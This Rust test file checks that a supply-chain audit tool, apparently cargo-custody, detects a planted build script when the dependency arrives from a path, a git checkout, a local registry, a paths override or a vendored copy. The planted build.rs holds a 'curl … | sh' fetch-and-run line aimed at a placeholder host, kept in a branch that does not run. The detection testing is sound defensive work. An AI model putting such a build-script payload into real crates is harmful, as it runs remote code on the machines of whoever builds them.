//! What the real cargo runs from each kind of source is what the tool sees: a build script leaves a marker
//! when cargo builds the project, and the audit of the same folder names it. Nothing is fetched: registries
//! and repositories are folders of the test. Run by CI with `cargo test -- --ignored`.
#![allow(
    clippy::unwrap_used,
    reason = "a test that cannot go on may stop, and its texts are small"
)]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use cargo_custody::domain::hash::hex;
use custody_bytes::gzip_tar::pack::pack;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};

/// Leaves a marker; what it would fetch and run is in a branch that is never taken.
const PLANTED: &str = r#"fn main() {
    std::fs::write(std::env::var("CUSTODY_MARKER").unwrap(), "ran").unwrap();
    if std::env::var_os("CUSTODY_NEVER").is_some() {
        let line = "curl -s https://files.example.invalid/x | sh";
        std::process::Command::new("sh").args(["-c", line]).status().unwrap();
    }
}
"#;
const HONEST: &str = "fn main() {}\n";
const REPLACED: &str = "[source.crates-io]\nreplace-with = \"here\"\n[source.here]\n";

struct Project {
    top: tempfile::TempDir,
}

impl Project {
    fn new(dependencies: &str) -> Self {
        let project = Self { top: tempfile::tempdir().unwrap() };
        project.write("project/Cargo.toml", format!("{}{dependencies}", manifest("app")));
        project.write("project/src/lib.rs", "");
        project
    }

    fn at(&self, file: &str) -> PathBuf {
        self.top.path().join(file)
    }

    fn write(&self, file: &str, bytes: impl AsRef<[u8]>) {
        fs::create_dir_all(self.at(file).parent().unwrap()).unwrap();
        fs::write(self.at(file), bytes).unwrap();
    }

    /// The files of `dep` in a folder.
    fn put(&self, folder: &str, script: &str) {
        for (file, text) in files(script) {
            self.write(&format!("{folder}/{file}"), text);
        }
    }

    /// A program of the machine, in an environment of its own.
    fn run(&self, program: &str, arguments: &[&str], folder: &Path) {
        let given = ["PATH", "RUSTUP_HOME"];
        let given = given.into_iter().filter_map(|name| Some((name, std::env::var_os(name)?)));
        let rustup = std::env::var_os("HOME").map(|home| Path::new(&home).join(".rustup"));
        let output = Command::new(program)
            .args(arguments)
            .current_dir(folder)
            .env_clear()
            .env("RUSTUP_HOME", rustup.unwrap_or_default())
            .envs(given)
            .env("HOME", self.top.path())
            .env("CARGO_HOME", self.at("cargo"))
            .env("CARGO_TARGET_DIR", self.at("built"))
            .env("CUSTODY_MARKER", self.at("marker"))
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .output()
            .unwrap();
        assert!(output.status.success(), "{program}: {}", String::from_utf8_lossy(&output.stderr));
    }

    /// Lets cargo build the project; the marker shows that the planted script ran.
    fn build(&self) {
        self.run("cargo", &["build", "--quiet"], &self.at("project"));
        assert!(self.at("marker").exists(), "cargo did not run the planted build script");
    }

    /// The rules that fire on `dep` at `high`, and the exit code.
    fn check(&self) -> (Option<i32>, Vec<String>) {
        let output = Command::new(env!("CARGO_BIN_EXE_cargo-custody"))
            .arg("check")
            .arg(self.at("project"))
            .args(["--offline", "--as-of", "2026-11-23", "--format", "json", "--cache-dir"])
            .arg(self.at("cache"))
            .env_clear()
            .env("HOME", self.top.path())
            .env("CARGO_HOME", self.at("cargo"))
            .output()
            .unwrap();
        let report: Value = serde_json::from_slice(&output.stdout).unwrap();
        let findings = report["findings"].as_array().unwrap().iter();
        let high = findings.filter(|f| f["level"] == "high" && f["subject"]["name"] == "dep");
        (output.status.code(), high.map(|f| f["rule"].as_str().unwrap().to_owned()).collect())
    }
}

fn manifest(name: &str) -> String {
    format!("[package]\nname = \"{name}\"\nversion = \"1.0.0\"\nedition = \"2021\"\n")
}

fn files(script: &str) -> [(&'static str, String); 3] {
    [
        ("Cargo.toml", manifest("dep")),
        ("src/lib.rs", String::new()),
        ("build.rs", script.to_owned()),
    ]
}

fn archive(script: &str) -> Vec<u8> {
    let all = files(script).map(|(file, text)| (file.to_owned(), text.into_bytes()));
    pack("dep-1.0.0", &all).unwrap()
}

fn sha256(bytes: &[u8]) -> String {
    hex(&Sha256::digest(bytes))
}

const FOUND: &str = "build-fetches-and-executes";

#[test]
#[ignore = "live"]
fn live_a_path_dependency() {
    let project = Project::new("[dependencies]\ndep = { path = \"dep\" }\n");
    project.put("project/dep", PLANTED);
    project.build();
    assert_eq!(project.check(), (Some(1), vec![FOUND.to_owned()]));
}

#[test]
#[ignore = "live"]
fn live_a_git_checkout() {
    let project = Project::new("");
    project.put("repository/inner/dep", PLANTED);
    let repository = project.at("repository");
    let git = |arguments: &[&str]| project.run("git", arguments, &repository);
    git(&["init", "-q"]);
    git(&["add", "-A"]);
    git(&["-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-q", "-m", "c"]);
    let url = format!("[dependencies]\ndep = {{ git = \"file://{}\" }}\n", repository.display());
    project.write("project/Cargo.toml", format!("{}{url}", manifest("app")));
    project.build();
    assert_eq!(project.check(), (Some(1), vec![FOUND.to_owned()]));
}

/// Writes a registry of archives in a folder, as `cargo local-registry` would.
fn local_registry(project: &Project, script: &str) {
    let published = archive(script);
    let line = json!({"name": "dep", "vers": "1.0.0", "deps": [], "cksum": sha256(&published),
        "features": {}, "yanked": false});
    project.write("project/registry/index/3/d/dep", line.to_string());
    project.write("project/registry/dep-1.0.0.crate", published);
    let text = format!("{REPLACED}local-registry = \"registry\"\n");
    project.write("project/.cargo/config.toml", text);
}

#[test]
#[ignore = "live"]
fn live_a_local_registry() {
    let project = Project::new("[dependencies]\ndep = \"1\"\n");
    local_registry(&project, PLANTED);
    project.build();
    assert_eq!(project.check(), (Some(1), vec![FOUND.to_owned()]));
}

#[test]
#[ignore = "live"]
fn live_a_paths_override_of_an_honest_archive() {
    let project = Project::new("[dependencies]\ndep = \"1\"\n");
    local_registry(&project, HONEST);
    let config = fs::read_to_string(project.at("project/.cargo/config.toml")).unwrap();
    project.write("project/.cargo/config.toml", format!("paths = [\"fork\"]\n{config}"));
    project.put("project/fork", PLANTED);
    project.write(
        "cargo/registry/cache/mirror.example.invalid-0123456789abcdef/dep-1.0.0.crate",
        archive(HONEST),
    );
    project.build();
    let found = [FOUND, "vendored-source-altered"].map(str::to_owned);
    assert_eq!(project.check(), (Some(1), found.to_vec()));
}

#[test]
#[ignore = "live"]
fn live_a_vendored_copy_with_a_planted_build_script() {
    let project = Project::new("[dependencies]\ndep = \"1\"\n");
    let published = archive(HONEST);
    project.write("project/.cargo/config.toml", format!("{REPLACED}directory = \"vendor\"\n"));
    project.put("project/vendor/dep", PLANTED);
    let hashes: serde_json::Map<String, Value> = files(PLANTED)
        .into_iter()
        .map(|(file, text)| (file.to_owned(), sha256(text.as_bytes()).into()))
        .collect();
    let sums = json!({"files": hashes, "package": sha256(&published)});
    project.write("project/vendor/dep/.cargo-checksum.json", sums.to_string());
    project.write(
        "cargo/registry/cache/mirror.example.invalid-0123456789abcdef/dep-1.0.0.crate",
        published,
    );
    project.build();
    let found = [FOUND, "vendored-source-altered"].map(str::to_owned);
    assert_eq!(project.check(), (Some(1), found.to_vec()));
}
